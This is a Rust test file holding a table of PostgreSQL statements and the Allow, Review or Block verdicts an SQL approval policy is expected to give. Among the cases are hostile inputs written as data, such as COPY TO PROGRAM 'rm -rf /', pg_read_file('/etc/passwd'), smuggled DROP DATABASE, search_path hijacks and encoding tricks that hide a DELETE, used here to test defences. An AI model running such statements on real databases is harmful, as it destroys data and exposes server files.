//! Table-driven tests of the built-in policy and of configured rules.

use super::*;
use countersign_bot::{Identity, IdentityKind, RequesterChain};

use Action::{Allow, Block, Review};

fn agent() -> RequesterChain {
    RequesterChain(vec![
        Identity {
            issuer: "https://idp".into(),
            subject: "deploy-bot".into(),
            email: None,
            unverified_email: None,
            kind: IdentityKind::Workload,
            groups: vec!["bots".into()],
        },
        Identity {
            issuer: "https://idp".into(),
            subject: "alice".into(),
            email: Some("alice@example.com".into()),
            unverified_email: None,
            kind: IdentityKind::Human,
            groups: vec!["contractors".into()],
        },
    ])
}

/// `(sql, expected action, expected kind of some statement or substring of a reason)`.
const CASES: &[(&str, Action, &str)] = &[
    // Empty and comments
    ("", Allow, "EMPTY"),
    ("   ;  ; ", Allow, "EMPTY"),
    ("-- just a comment", Allow, "EMPTY"),
    ("/* DELETE */ SELECT 1", Allow, "SELECT"),
    ("SELECT 1; -- DROP TABLE t", Allow, "SELECT"),
    ("SELECT 1 /* ; DROP DATABASE x */", Allow, "read-only query"),
    // psql's describe commands (\d, \df+, \sf, \dc, \db, \dF, \dO …) read the catalog
    ("SELECT pg_catalog.pg_get_functiondef(1299)", Allow, "SELECT"),
    ("SELECT pg_catalog.array_to_string(array(select rolname from pg_catalog.pg_roles where oid = any ('{10}'::oid[]) order by 1),',')", Allow, "SELECT"),
    ("SELECT spcname, pg_catalog.pg_tablespace_location(oid) FROM pg_catalog.pg_tablespace", Allow, "SELECT"),
    ("SELECT c.cfgname FROM pg_catalog.pg_ts_config c WHERE pg_catalog.pg_ts_config_is_visible(c.oid)", Allow, "SELECT"),
    ("SELECT c.collname FROM pg_catalog.pg_collation c WHERE c.collencoding IN (-1, pg_catalog.pg_char_to_encoding(pg_catalog.getdatabaseencoding()))", Allow, "SELECT"),
    // Plain reads
    ("SELECT 1", Allow, "SELECT"),
    ("select * from orders where id = 1", Allow, "SELECT"),
    ("SELECT abalance FROM pgbench_accounts WHERE aid = 42;", Allow, "SELECT"),
    ("VALUES (1), (2)", Allow, "SELECT"),
    ("TABLE orders", Allow, "TABLE"),
    ("TABLE orders; DELETE FROM orders", Review, "DELETE without WHERE on orders"),
    ("SELECT count(*), max(id), avg(x) FROM t GROUP BY y ORDER BY 1", Allow, "SELECT"),
    ("SELECT now(), current_timestamp, version(), current_database(), pg_backend_pid()", Allow, "SELECT"),
    ("SELECT lower(name), upper(name), coalesce(a, b), length(s) FROM users", Allow, "SELECT"),
    ("SELECT date_trunc('day', created), to_char(created, 'YYYY') FROM t", Allow, "SELECT"),
    ("SELECT data->>'a', data #> '{b}', jsonb_build_object('k', 1) FROM docs", Allow, "SELECT"),
    ("SELECT string_agg(name, ','), array_agg(id) FROM t", Allow, "SELECT"),
    ("SELECT 'a'::regclass, 1::text, CAST(x AS int) FROM t", Allow, "SELECT"),
    ("SELECT $1, $2", Allow, "SELECT"),
    ("SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c USING (id)", Allow, "SELECT"),
    ("SELECT * FROM t WHERE id IN (SELECT id FROM u)", Allow, "SELECT"),
    ("WITH x AS (SELECT 1) SELECT * FROM x", Allow, "SELECT"),
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT * FROM r", Allow, "SELECT"),
    ("SELECT 1 UNION SELECT 2 EXCEPT SELECT 3", Allow, "SELECT"),
    ("SELECT \"Ünïcode\" FROM \"Weird \"\"Table\"\"\"", Allow, "SELECT"),
    ("SELECT 'héllo wörld ✓', '日本語'", Allow, "SELECT"),
    ("SELECT $tag$ DELETE FROM t; $tag$", Allow, "SELECT"),
    ("SELECT $$ DROP DATABASE x $$", Allow, "SELECT"),
    ("SELECT E'it\\'s'", Allow, "SELECT"),
    ("SELECT random(), round(1.5), abs(-1)", Allow, "SELECT"),
    ("SELECT * FROM generate_series(1, 10) g", Allow, "SELECT"),
    ("SELECT x FROM t ORDER BY lower(x) LIMIT 5 OFFSET 2", Allow, "SELECT"),
    // psql catalog queries (\d, \dt)
    ("SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3", Allow, "SELECT"),
    ("SELECT n.nspname as \"Schema\", c.relname as \"Name\", pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2", Allow, "SELECT"),
    ("SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) FROM pg_catalog.pg_attrdef d WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef), a.attnotnull FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum", Allow, "SELECT"),
    // SHOW, EXPLAIN
    ("SHOW search_path", Allow, "SHOW"),
    ("SHOW ALL", Allow, "SHOW"),
    ("EXPLAIN SELECT * FROM t", Allow, "EXPLAIN"),
    ("EXPLAIN DELETE FROM orders", Allow, "does not run the DELETE"),
    ("EXPLAIN UPDATE t SET a = 1", Allow, "EXPLAIN"),
    // Planning folds column defaults, which may run code no statement names.
    ("EXPLAIN INSERT INTO t (b) VALUES (1)", Review, "column defaults"),
    ("EXPLAIN UPDATE t SET a = DEFAULT", Review, "column defaults"),
    ("EXPLAIN ANALYZE DELETE FROM orders", Review, "EXPLAIN ANALYZE executes the DELETE"),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders WHERE id = 1", Review, "DELETE"),
    ("EXPLAIN (ANALYZE false) DELETE FROM orders", Allow, "EXPLAIN"),
    ("EXPLAIN ANALYZE SELECT 1", Allow, "SELECT"),
    ("EXPLAIN EXECUTE p2", Review, "EXPLAIN EXECUTE plans a prepared statement"),
    // DDL pg_dump writes that sqlparser does not read: reviewed as DDL (a rule may allow it).
    ("ALTER LARGE OBJECT 16400 OWNER TO app", Review, "ALTER LARGE OBJECT changes the database's catalog"),
    ("CREATE DATABASE d WITH TEMPLATE = template0 ENCODING = 'UTF8' LOCALE_PROVIDER = libc LOCALE = 'C.UTF-8'", Review, "CREATE DATABASE"),
    ("ALTER TEXT SEARCH CONFIGURATION app.cfg ADD MAPPING FOR asciiword WITH english_stem", Review, "ALTER TEXT SEARCH CONFIGURATION"),
    ("CREATE PUBLICATION p FOR TABLE t WITH (publish = 'insert, update')", Review, "CREATE PUBLICATION"),
    ("CREATE OPERATOR app.+ (FUNCTION = app.add3, LEFTARG = integer, RIGHTARG = integer)", Review, "CREATE OPERATOR"),
    ("IMPORT FOREIGN SCHEMA s FROM SERVER f INTO t", Review, "IMPORT FOREIGN SCHEMA"),
    ("DROP OWNED BY app CASCADE", Review, "DROP OWNED"),
    ("CREATE OPERATOR $$x$$", Review, "could not"),
    ("SELECT histogram_bounds FROM pg_stats WHERE tablename = 'pg_authid'", Review, "planner statistics"),
    ("SELECT stavalues1 FROM pg_catalog.pg_statistic", Review, "planner statistics"),
    ("SELECT * FROM pg_stats_ext_exprs", Review, "planner statistics"),
    ("EXPLAIN (COSTS off) EXECUTE p2(1)", Review, "EXPLAIN EXECUTE plans"),
    ("EXPLAIN ANALYZE EXECUTE p2", Review, "EXECUTE"),
    // PostgreSQL reads the option `ANALYSE` as ANALYZE (and runs the DELETE); an option it does not
    // know is an error there, so one the policy does not know fails closed.
    ("EXPLAIN (ANALYSE) DELETE FROM orders", Review, "EXPLAIN ANALYZE executes the DELETE"),
    ("EXPLAIN (FORMAT JSON, ANALYSE TRUE) DELETE FROM orders", Review, "DELETE without WHERE"),
    ("EXPLAIN (ANALYSE false) DELETE FROM orders", Allow, "does not run the DELETE"),
    ("EXPLAIN (VERBOSE, COSTS off, BUFFERS, SETTINGS, WAL, TIMING false, SUMMARY, FORMAT yaml) DELETE FROM orders", Allow, "does not run the DELETE"),
    ("EXPLAIN (FROBNICATE) DELETE FROM orders", Review, "EXPLAIN ANALYZE executes the DELETE"),
    ("EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", Block, "server file access"),
    // Transaction control and session
    ("BEGIN", Allow, "BEGIN"),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ", Allow, "transaction control"),
    ("START TRANSACTION READ ONLY", Allow, "START TRANSACTION"),
    // sqlparser lacks [NOT] DEFERRABLE; drivers' transaction builders send it
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE", Allow, "START TRANSACTION"),
    ("BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE", Allow, "BEGIN"),
    ("BEGIN DEFERRABLE, ISOLATION LEVEL SERIALIZABLE", Allow, "BEGIN"),
    ("START TRANSACTION NOT DEFERRABLE", Allow, "START TRANSACTION"),
    ("SET TRANSACTION READ ONLY, NOT DEFERRABLE", Allow, "transaction"),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION DEFERRABLE", Allow, "transaction"),
    ("BEGIN DEFERRABLE; DELETE FROM t", Review, "DELETE without WHERE"),
    ("SET deferrable = 1", Review, "not on the harmless list"),
    ("BEGIN DEFERRABLE DEFERRABLE DROP TABLE t", Review, "could not be parsed"),
    // COPY options sqlparser lacks are inert: the target and source are still judged
    ("copy pgbench_accounts from stdin with (freeze on)", Review, "COPY FROM STDIN writes data on pgbench_accounts: the approval covers this statement, not the rows"),
    ("COPY t (a, b) TO STDOUT WITH (FORMAT csv, FORCE_QUOTE (a, b), HEADER true, NULL '')", Allow, "COPY TO STDOUT"),
    ("COPY (SELECT * FROM t) TO STDOUT (FORMAT binary, FORCE_QUOTE *)", Allow, "COPY TO STDOUT"),
    ("COPY t TO STDOUT WITH CSV HEADER DELIMITER ';' FORCE QUOTE *", Allow, "COPY TO STDOUT"),
    ("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT (FREEZE on)", Block, "pg_read_file"),
    ("COPY t FROM STDIN (FREEZE on) WHERE pg_sleep(1) IS NULL", Review, "pg_sleep"),
    ("COPY t FROM STDIN (FREEZE pg_sleep(1))", Review, "could not be parsed"),
    ("COPY t TO '/tmp/x' (FREEZE on)", Block, "server"),
    ("COPY t TO PROGRAM 'rm -rf /' (FREEZE on)", Block, "PROGRAM"),
    // Weaker row locks sqlparser lacks are judged as the stronger ones
    ("SELECT * FROM t WHERE id = 1 FOR NO KEY UPDATE NOWAIT", Review, "locking read"),
    ("SELECT * FROM t FOR KEY SHARE OF t SKIP LOCKED", Review, "locking read"),
    ("SELECT pg_read_file('/etc/passwd') FROM t FOR KEY SHARE", Block, "pg_read_file"),
    ("SELECT * FROM t FOR NO KEY SHARE", Review, "could not be parsed"),
    ("SELECT * FROM a, b FOR UPDATE OF a, b", Review, "locking read"),
    ("SELECT * FROM a, b FOR NO KEY UPDATE OF a, s.b NOWAIT", Review, "locking read"),
    ("SELECT pg_read_file('x') FROM a, b FOR SHARE OF a, b", Block, "pg_read_file"),
    // Django's DDL sqlparser lacks: judged as the same statement without the inert part
    ("CREATE INDEX i ON t (a) TABLESPACE pg_default", Review, "CREATE INDEX"),
    ("ALTER TABLE t ALTER COLUMN id DROP IDENTITY IF EXISTS", Review, "ALTER TABLE"),
    ("ALTER TABLE t ALTER COLUMN a TYPE varchar(20) COLLATE \"C\"", Review, "ALTER TABLE"),
    ("EXPLAIN (SELECT 1) UNION (SELECT 2)", Allow, "EXPLAIN"),
    ("EXPLAIN (SELECT pg_read_file('x')) UNION (SELECT 2)", Block, "pg_read_file"),
    ("DROP SERVER IF EXISTS s CASCADE", Review, "DROP SERVER"),
    ("DROP SERVER s; DROP DATABASE d", Block, "DROP DATABASE"),
    // Maintenance sqlparser lacks, checked token by token (pgbench -i sends `vacuum analyze t`)
    ("vacuum analyze pgbench_branches", Review, "VACUUM is maintenance"),
    ("VACUUM (VERBOSE, ANALYZE, PARALLEL 2, INDEX_CLEANUP 'auto') s.t (a, b), \"U\"", Review, "VACUUM"),
    ("VACUUM FULL FREEZE VERBOSE t", Review, "VACUUM"),
    ("ANALYZE VERBOSE t (a)", Review, "ANALYZE"),
    ("VACUUM t; DROP DATABASE d", Block, "DROP DATABASE"),
    ("VACUUM (VERBOSE) pg_read_file('/etc/passwd')", Block, "pg_read_file"),
    ("VACUUM t WHERE x", Review, "could not be parsed"),
    ("ANALYZE FULL t", Review, "could not be parsed"),
    ("CHECKPOINT", Review, "checkpoint"),
    ("CHECKPOINT now", Review, "could not be parsed"),
    ("MOVE NEXT IN c", Allow, "MOVE"),
    ("MOVE BACKWARD -2 FROM \"Cur\"", Allow, "MOVE"),
    ("MOVE c; DELETE FROM t", Review, "DELETE without WHERE"),
    ("MOVE NEXT IN c(1)", Review, "could not be parsed"),
    // FETCH forms sqlparser rejects (without FROM/IN, or with a signed count), as psql users write them.
    ("FETCH ALL c", Allow, "cursor"),
    ("FETCH c", Allow, "cursor"),
    ("FETCH 10 c", Allow, "cursor"),
    ("FETCH FORWARD 5 c", Allow, "cursor"),
    ("FETCH RELATIVE -1 FROM c", Allow, "cursor"),
    ("FETCH -5 FROM \"Cur\"", Allow, "cursor"),
    ("FETCH ALL c; DELETE FROM t", Review, "DELETE without WHERE"),
    ("FETCH ALL c WHERE pg_sleep(1) IS NULL", Review, "could not be parsed"),
    ("FETCH ALL pg_sleep(1)", Review, "could not be parsed"),
    // DO: its code is opaque, so reviewed; the grammar around it is exact.
    ("DO LANGUAGE plpgsql $$ BEGIN NULL; END $$", Review, "anonymous code block"),
    ("DO 'BEGIN NULL; END' LANGUAGE plpgsql", Review, "anonymous code block"),
    ("do $f$ begin null; end $f$ language 'plpgsql'", Review, "anonymous code block"),
    ("DO $$ BEGIN NULL; END $$; DELETE FROM t", Review, "DELETE without WHERE"),
    ("DO $$ BEGIN NULL; END $$; DROP DATABASE d", Block, "DROP DATABASE"),
    ("DO $$x$$ $$y$$", Review, "could not be parsed"),
    ("DO $$x$$ LANGUAGE", Review, "could not be parsed"),
    ("DO LANGUAGE plpgsql LANGUAGE sql $$x$$", Review, "could not be parsed"),
    ("DO pg_sleep(1)", Review, "could not be parsed"),
    ("SET CONSTRAINTS ALL DEFERRED", Allow, "SET CONSTRAINTS"),
    ("SET CONSTRAINTS s.fk_a, fk_b IMMEDIATE", Allow, "SET CONSTRAINTS"),
    ("SET CONSTRAINTS ALL, x DEFERRED", Review, "could not be parsed"),
    ("SET CONSTRAINTS DEFERRED", Review, "could not be parsed"),
    // CREATE USER as the CREATE ROLE it abbreviates (sqlparser reads another dialect's CREATE USER)
    ("CREATE USER app_ro WITH PASSWORD 'x'", Review, "changes roles"),
    ("create user u login connection limit 3", Review, "changes roles"),
    ("CREATE USER u WITH PASSWORD 'x'; DROP DATABASE d", Block, "DROP DATABASE"),
    ("CREATE USER u WITH PASSWORD pg_read_file('/etc/passwd')", Block, "pg_read_file"),
    // Two-phase commit: parsed (so a rule may allow it), reviewed by default; the grammar is exact.
    ("PREPARE TRANSACTION 'tx-1'", Review, "PREPARE TRANSACTION keeps"),
    ("COMMIT PREPARED 'tx-1'", Review, "COMMIT PREPARED finishes"),
    ("rollback prepared 'tx-1'", Review, "ROLLBACK PREPARED finishes"),
    ("COMMIT PREPARED 'tx-1'; DROP DATABASE d", Block, "DROP DATABASE"),
    ("PREPARE TRANSACTION tx", Review, "could not be parsed"),
    ("COMMIT PREPARED 'a' 'b'", Review, "could not be parsed"),
    ("PREPARE TRANSACTION pg_sleep(1)", Review, "could not be parsed"),
    ("COMMIT", Allow, "COMMIT"),
    ("END", Allow, "COMMIT"),
    ("ROLLBACK", Allow, "ROLLBACK"),
    ("SAVEPOINT a", Allow, "SAVEPOINT"),
    ("RELEASE SAVEPOINT a", Allow, "RELEASE"),
    ("ROLLBACK TO SAVEPOINT a", Allow, "ROLLBACK"),
    ("SET search_path = public", Allow, "SET"),
    ("CREATE FUNCTION public.lower(varchar) RETURNS text AS 'SELECT 1' LANGUAGE sql", Block, "shadow"),
    ("CREATE OR REPLACE FUNCTION now() RETURNS timestamptz AS $$SELECT 1$$ LANGUAGE sql", Block, "shadow"),
    ("CREATE FUNCTION app_lower(text) RETURNS text AS 'SELECT 1' LANGUAGE sql", Review, "CREATE FUNCTION"),
    ("SET search_path = pg_catalog, public", Allow, "SET"),
    ("SET search_path = evil, pg_catalog", Review, "ahead of pg_catalog"),
    ("SET search_path TO 'evil', pg_catalog", Review, "ahead of pg_catalog"),
    // A quoted name keeps its case and spaces: "PG_CATALOG" is another schema, so evil comes first.
    ("SET search_path = \"PG_CATALOG\", evil, pg_catalog", Review, "ahead of pg_catalog"),
    ("SET search_path = 'PG_CATALOG', evil, pg_catalog", Review, "ahead of pg_catalog"),
    ("SET search_path = \" pg_catalog\", evil, pg_catalog", Review, "ahead of pg_catalog"),
    ("SET SESSION \"search_path\" = \"Pg_catalog\", evil, pg_catalog", Review, "ahead of pg_catalog"),
    ("SELECT set_config('search_path', '\"PG_CATALOG\", evil, pg_catalog', false)", Review, "ahead of pg_catalog"),
    ("SET search_path = \"pg_catalog\", evil", Allow, "harmless"),
    // One string is one schema name ("evil, pg_catalog"); pg_catalog is then searched first.
    ("SET search_path = 'evil, pg_catalog'", Allow, "harmless"),
    ("SET search_path = DEFAULT", Allow, "harmless"),
    ("SELECT set_config('search_path', 'evil,pg_catalog', false)", Review, "ahead of pg_catalog"),
    ("SELECT set_config('search_path', current_user, false)", Review, "computed value"),
    ("SELECT set_config('application_name', email, false) FROM users", Review, "copy table data"),
    ("SELECT current_setting('application_name') FROM users WHERE set_config('application_name', ssn, false) IS NOT NULL", Review, "computed value"),
    ("SELECT set_config('application_name', 'etl-' || 'nightly', false)", Review, "computed value"),
    ("SELECT set_config('application_name', 'etl', false)", Allow, "SELECT"),
    ("SET SESSION search_path TO public, \"$user\"", Allow, "harmless"),
    ("SET LOCAL statement_timeout = '5s'", Allow, "SET"),
    ("SET application_name TO 'pgbench'", Allow, "SET"),
    ("SET client_encoding TO 'UTF8'", Allow, "SET"),
    // Settings that change how PostgreSQL reads the text: with them, `'a\', '; DELETE FROM t; --'` or
    // `E'丁\'; DELETE FROM t; --'` (GBK) would hide a DELETE the policy reads as part of a string.
    ("SET standard_conforming_strings = off", Review, "standard_conforming_strings off"),
    ("SET SESSION standard_conforming_strings TO 'off'", Review, "standard_conforming_strings off"),
    ("SET LOCAL standard_conforming_strings = false", Review, "standard_conforming_strings off"),
    ("SET standard_conforming_strings = on", Allow, "SET"),
    ("RESET standard_conforming_strings", Allow, "RESET"),
    ("SELECT set_config('standard_conforming_strings', 'off', false)", Review, "standard_conforming_strings off"),
    ("SELECT set_config('standard_conforming_strings', 'of' || 'f', false)", Review, "computed value"),
    ("SET client_encoding = 'GBK'", Review, "client_encoding GBK"),
    ("SET client_encoding TO 'SJIS'", Review, "client_encoding SJIS"),
    ("SET client_encoding TO 'LATIN1'", Allow, "SET"),
    ("SET NAMES 'GBK'", Review, "SET NAMES"),
    ("SELECT set_config('client_encoding', 'BIG5', false)", Review, "client_encoding BIG5"),
    ("SELECT set_config('client_encoding', current_setting('x'), false)", Review, "computed value"),
    ("SET DateStyle = ISO", Allow, "SET"),
    ("SET extra_float_digits = 3", Allow, "SET"),
    ("SET TIME ZONE 'UTC'", Allow, "SET"),
    ("SET TimeZone = 'UTC'", Allow, "SET"),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Allow, "SET"),
    ("RESET ALL", Allow, "RESET"),
    ("DISCARD ALL", Allow, "DISCARD"),
    // U&"…" identifiers are not decoded (sqlparser reads `U & "…"`): never allowed by their look.
    ("SELECT p.U&\"\\0061rchive\" FROM people p", Review, "U&"),
    ("SELECT U&\"\\0070g_read_file\"('/etc/hostname')", Review, "U&"),
    ("SELECT u & \"mask\" FROM flags", Review, "U&"),
    // What asyncpg's pool runs when a connection is returned: releases only this session's locks.
    ("SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL;", Allow, "SELECT"),
    ("SELECT pg_advisory_unlock(42), pg_advisory_unlock_shared(7)", Allow, "SELECT"),
    ("SELECT pg_advisory_lock(42)", Review, "advisory lock"),
    // Range constructors and other pure built-ins (psycopg2's range tests)
    ("SELECT tstzrange(now(), now() + interval '1 day'), int4range(1, 5), isempty(numrange(1, 1))", Allow, "SELECT"),
    ("SELECT width_bucket(5.3, 0, 10, 5), to_regclass('pg_class'), currval('s')", Allow, "SELECT"),
    ("SET default_transaction_deferrable = on", Allow, "SET"),
    // pg_dump -t and vacuumdb spell catalog operators qualified, also before ANY (sqlparser reads the
    // plain spelling only); a qualified operator outside pg_catalog is still someone's code.
    ("SELECT c.oid FROM pg_catalog.pg_class c WHERE c.relkind OPERATOR(pg_catalog.=) ANY (array['r', 'S', 'v', 'm', 'f', 'p']) AND c.relname OPERATOR(pg_catalog.~) '^(items)$' COLLATE pg_catalog.default", Allow, "SELECT"),
    ("SELECT c.relname FROM pg_catalog.pg_class c WHERE c.relkind OPERATOR(pg_catalog.=) ANY (array['r', 'm']) AND c.relpersistence OPERATOR(pg_catalog.!=) 't'", Allow, "SELECT"),
    ("SELECT 1 WHERE 1 OPERATOR(evil.=) ANY (array[1])", Review, "not PostgreSQL's own"),
    ("DELETE FROM t WHERE id OPERATOR(pg_catalog.=) ANY (array[1])", Review, "DELETE"),
    // pgJDBC getPrimaryKeys / getIndexInfo, psql \dx+ \db+ \dF+
    ("SELECT (information_schema._pg_expandarray(i.indkey)).n FROM pg_catalog.pg_index i", Allow, "SELECT"),
    ("SELECT information_schema._pg_char_max_length(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a", Allow, "SELECT"),
    ("SELECT _pg_expandarray(ARRAY[1])", Review, "not on the read-only"),
    ("SELECT public._pg_expandarray(ARRAY[1])", Review, "not on the read-only"),
    ("SELECT pg_catalog.pg_describe_object(classid, objid, 0) FROM pg_catalog.pg_depend", Allow, "SELECT"),
    ("SELECT pg_catalog.pg_tablespace_size(oid), ts_token_type(3722) FROM pg_catalog.pg_tablespace", Allow, "SELECT"),
    ("LISTEN jobs", Allow, "LISTEN"),
    ("UNLISTEN *", Allow, "UNLISTEN"),
    ("SET ROLE admin", Review, "SET ROLE changes the session identity"),
    ("RESET ROLE", Review, "identity"),
    ("SET SESSION AUTHORIZATION bob", Review, "SESSION AUTHORIZATION"),
    ("SET role = 'postgres'", Review, "identity"),
    ("SET work_mem = '1GB'", Review, "not on the harmless list"),
    ("SET session_replication_role = replica", Review, "not on the harmless list"),
    ("SELECT set_config('role', 'postgres', false)", Review, "set_config('role'"),
    ("SELECT set_config('session_authorization', 'postgres', false)", Review, "identity"),
    ("SELECT set_config('search_path', 'public', false)", Allow, "SELECT"),
    ("SELECT set_config(name, 'x', false) FROM settings", Review, "set_config"),
    ("NOTIFY jobs, 'go'", Review, "NOTIFY"),
    ("SELECT pg_notify('jobs', 'go')", Review, "pg_notify"),
    // Data changes
    ("INSERT INTO orders (id) VALUES (1)", Review, "INSERT"),
    ("UPDATE orders SET paid = true WHERE id = 1", Review, "UPDATE"),
    ("UPDATE orders SET paid = true", Review, "UPDATE without WHERE on orders"),
    ("DELETE FROM orders WHERE id = 1", Review, "DELETE"),
    ("DELETE FROM orders", Review, "DELETE without WHERE on orders"),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Review, "MERGE"),
    ("TRUNCATE orders", Review, "TRUNCATE"),
    ("SELECT 1; DELETE FROM t", Review, "DELETE without WHERE on t"),
    ("UPDATE pgbench_accounts SET abalance = abalance + -1234 WHERE aid = 42;", Review, "UPDATE"),
    ("UPDATE pgbench_tellers SET tbalance = tbalance + -1234 WHERE tid = 7;", Review, "UPDATE"),
    ("UPDATE pgbench_branches SET bbalance = bbalance + -1234 WHERE bid = 1;", Review, "UPDATE"),
    ("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (7, 1, 42, -1234, CURRENT_TIMESTAMP);", Review, "INSERT"),
    ("INSERT INTO t SELECT * FROM u", Review, "INSERT"),
    ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 2", Review, "INSERT"),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Review, "data-modifying DELETE inside WITH"),
    ("WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) SELECT id FROM u", Review, "inside WITH"),
    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT 1", Review, "INSERT inside WITH"),
    // A WITH clause in front of a write leaves it that write.
    ("WITH x AS (SELECT 1) DELETE FROM orders", Review, "DELETE without WHERE on orders"),
    ("WITH x AS (SELECT 1) UPDATE orders SET a = 1 WHERE id = 2", Review, "UPDATE"),
    ("WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x", Review, "INSERT"),
    ("SELECT * INTO t2 FROM t", Review, "SELECT INTO creates a table"),
    ("SELECT * FROM t FOR UPDATE", Review, "locking read"),
    ("SELECT * FROM t FOR SHARE", Review, "locking read"),
    ("SELECT * FROM t FOR NO KEY UPDATE", Review, "locking read"),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Review, "LOCK"),
    // pg_dump: ACCESS SHARE is the lock a SELECT takes; every stronger mode (and LOCK without a mode,
    // which is ACCESS EXCLUSIVE) stays reviewed.
    ("LOCK TABLE app.people IN ACCESS SHARE MODE", Allow, "ACCESS SHARE"),
    ("LOCK TABLE ONLY a, b IN ACCESS SHARE MODE NOWAIT", Allow, "ACCESS SHARE"),
    ("LOCK TABLE t", Review, "LOCK takes table locks"),
    ("LOCK TABLE t IN ROW SHARE MODE", Review, "LOCK takes table locks"),
    ("LOCK TABLE t IN SHARE MODE", Review, "LOCK takes table locks"),
    ("LOCK TABLE t IN EXCLUSIVE MODE", Review, "LOCK takes table locks"),
    // What else pg_dump sends that a read needs.
    ("SELECT n.oid, acldefault('n', n.nspowner) AS acldefault FROM pg_namespace n", Allow, "read-only query"),
    ("SELECT pg_catalog.pg_export_snapshot()", Allow, "read-only query"),
    ("SELECT array_to_string(ARRAY(SELECT quote_ident(option_name) FROM pg_options_to_table(fdwoptions)), ', ') FROM pg_foreign_data_wrapper", Allow, "read-only query"),
    ("SET synchronize_seqscans TO off", Allow, "harmless"),
    ("SET row_security = off", Allow, "harmless"),
    ("SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", Allow, "read-only query"),
    // The name is pinned only by exactly that shape: another setting, another source or filter, or a
    // second call leave it unknown.
    ("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role'", Review, "role changes the session identity"),
    ("SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'standard_conforming_strings'", Review, "standard_conforming_strings"),
    ("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind' OR name = 'role'", Review, "set_config changes a server setting"),
    ("SELECT set_config(name, 'x', false) FROM my_settings WHERE name = 'restrict_nonsystem_relation_kind'", Review, "set_config changes a server setting"),
    ("SELECT set_config(name, 'x', false) FROM pg_settings s JOIN t ON true WHERE name = 'restrict_nonsystem_relation_kind'", Review, "set_config changes a server setting"),
    ("SELECT set_config(name, setting, false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", Review, "set_config changes a server setting"),
    ("SELECT (SELECT set_config(name, 'x', false) FROM pg_settings) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", Review, "set_config changes a server setting"),
    ("COPY t TO STDOUT", Allow, "COPY"),
    ("COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)", Allow, "COPY TO STDOUT"),
    ("COPY t FROM STDIN", Review, "COPY FROM STDIN writes data on t: the approval covers this statement, not the rows"),
    // Functions
    ("SELECT nextval('orders_id_seq')", Review, "changes a sequence"),
    ("SELECT setval('s', 1)", Review, "changes a sequence"),
    ("SELECT pg_sleep(1)", Review, "pg_sleep"),
    ("SELECT my_func(1)", Review, "calls my_func: not on the read-only function list"),
    ("SELECT public.lower('x')", Review, "public.lower"),
    // Quoted names keep their case in PostgreSQL: these are other functions than the vetted ones.
    ("SELECT \"LOWER\"('x')", Review, "calls LOWER: not on the read-only function list"),
    ("SELECT \"PG_CATALOG\".lower('x')", Review, "calls PG_CATALOG.lower"),
    ("SELECT \"Count\"(*) FROM t", Review, "calls Count"),
    ("SELECT * FROM \"Generate_Series\"(1, 2)", Review, "Generate_Series"),
    ("SELECT \"lower\"('x'), pg_catalog.\"lower\"('y'), \"pg_catalog\".upper('z')", Allow, "SELECT"),
    ("SELECT \"NEXTVAL\"('s')", Review, "NEXTVAL"),
    // A user-defined operator runs its function like a call would.
    ("SELECT 1 OPERATOR(evil.+) 1", Review, "uses operator OPERATOR(evil.+)"),
    ("SELECT a FROM t ORDER BY a USING OPERATOR(evil.<)", Review, "OPERATOR(evil.<)"),
    ("SELECT 1 ~~~ 2", Review, "uses operator ~~~"),
    ("SELECT a <=> b FROM t", Review, "uses operator <=>"),
    ("SELECT a FROM t WHERE a ~~~ 1; DELETE FROM t", Review, "DELETE without WHERE"),
    ("SELECT 1 ~~~ pg_read_file('x')", Block, "pg_read_file"),
    ("SELECT 2*-1, a<-1, 1 OPERATOR(pg_catalog.+) 1, data @> '{}' FROM t", Allow, "SELECT"),
    ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", Review, "dblink"),
